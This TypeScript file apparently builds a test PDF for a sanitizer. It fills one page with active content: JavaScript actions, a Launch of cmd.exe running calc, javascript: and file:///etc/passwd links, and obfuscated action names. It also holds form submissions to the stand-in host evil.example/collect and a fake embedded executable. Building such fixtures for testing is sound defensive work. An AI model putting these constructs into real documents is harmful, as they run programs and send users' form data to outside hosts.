/** Writes a PDF by hand. Each object is the text between `1 0 obj` and `endobj`. */
export function writePdf(objects: string[], trailer = ''): Buffer {
  const parts = ['%PDF-1.7\n']
  const offsets = objects.map((object, index) => {
    const offset = parts.join('').length
    parts.push(`${index + 1} 0 obj\n${object}\nendobj\n`)
    return offset
  })
  const start = parts.join('').length
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  parts.push(`xref\n0 ${size}\n0000000000 65535 f \n${entries}`)
  parts.push(`trailer\n<</Root 1 0 R/Size ${size}${trailer}>>\nstartxref\n${start}\n%%EOF\n`)
  return Buffer.from(parts.join(''), 'latin1')
}

const stream = (dict: string, content: string) => `<<${dict}/Length ${content.length}>>\nstream\n${content}\nendstream`

/**
 * One page with every kind of active content, and with what is to stay: links to a website, to an e-mail address and to
 * the page itself, an outline, tags. `catalog`: further entries of the catalog.
 */
export function makeActivePdf(catalog = ''): Buffer {
  const link = (action: string, top: number) =>
    `<</Type/Annot/Subtype/Link/Rect[50 ${top} 150 ${top + 10}]/A<<${action}>>>>`
  return writePdf([
    `<</Type/Catalog/Pages 2 0 R/Lang(en-GB)/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R/Outlines 8 0 R
      /OpenAction 12 0 R/AA<</WC<</S/JavaScript/JS(app.alert\\("closing"\\))>>>>/URI<</Base(http://evil.example/)>>
      /Names<</JavaScript<</Names[(start)12 0 R]>>/EmbeddedFiles<</Names[(x.exe)10 0 R]>>/Dests<</Names[(top)[3 0 R/Fit]]>>>>
      /AcroForm<</Fields[13 0 R]/XFA[(form)11 0 R]>>/AF[10 0 R]/Collection<</View/T>>${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 400]/Contents 4 0 R/StructParents 0/AA<</O<</S/Launch/F(x.exe)>>>>
      /Resources<</Font<</AA 7 0 R/JS 7 0 R>>>>
      /Annots[${[
        link('/S/URI/URI(https://bookshelf.example/kites)', 10),
        link('/S/URI/URI(mailto:office@bookshelf.example)', 20),
        link('/S/GoTo/D(top)', 30),
        link('/S/URI/URI(javascript:alert\\(1\\))', 40),
        link('/S/URI/URI(file:///etc/passwd)', 50),
        link('/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>', 60),
        link('/S/GoToR/F(//evil.example/share/x.pdf)/D[0/Fit]', 70),
        link('/S/ImportData/F(data.fdf)', 80),
        link('/S/J#61vaScript/J#53(app.alert\\("clicked"\\))', 90),
        link('/S/GoTo/D(top)/Next<</S/SubmitForm/F(http://evil.example/collect)>>', 100),
        '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 10 0 R>>',
        '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(x.swf)10 0 R]>>>>>>',
        '<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/R<</S/MR>>/JS(app.alert\\("played"\\))>>>>',
      ].join('\n')} 13 0 R]>>`,
    stream('', '/H1<</MCID 0>>BDC BT /AA 20 Tf 50 300 Td (Kites) Tj ET EMC'),
    '<</Type/StructTreeRoot/K[6 0 R]/ParentTree<</Nums[0[6 0 R]]>>/RoleMap<</Launch/H1>>>>',
    // A custom structure type may have the name of an action.
    '<</Type/StructElem/S/Launch/P 5 0 R/Pg 3 0 R/K 0/A<</O/Layout/SpaceBefore 9>>/T(A heading)>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    '<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>',
    '<</Title(The kite)/Parent 8 0 R/A<</S/GoToE/T<</R/C/N(x.exe)>>>>>>',
    '<</Type/Filespec/F(x.exe)/EF<</F 11 0 R>>/Desc(an attached program)>>',
    stream('/Type/EmbeddedFile', 'MZ-this-is-an-attached-program'),
    '<</S/JavaScript/JS(app.alert\\("opened"\\))>>',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[200 200 300 220]
      /AA<</K<</S/JavaScript/JS(app.alert\\("typed"\\))>>>>/A<</S/SubmitForm/F(http://evil.example/collect)>>>>`,
    stream('/Hidden true', 'This object is named by nobody: <</S/Launch/F(hidden.exe)>>'),
  ])
}
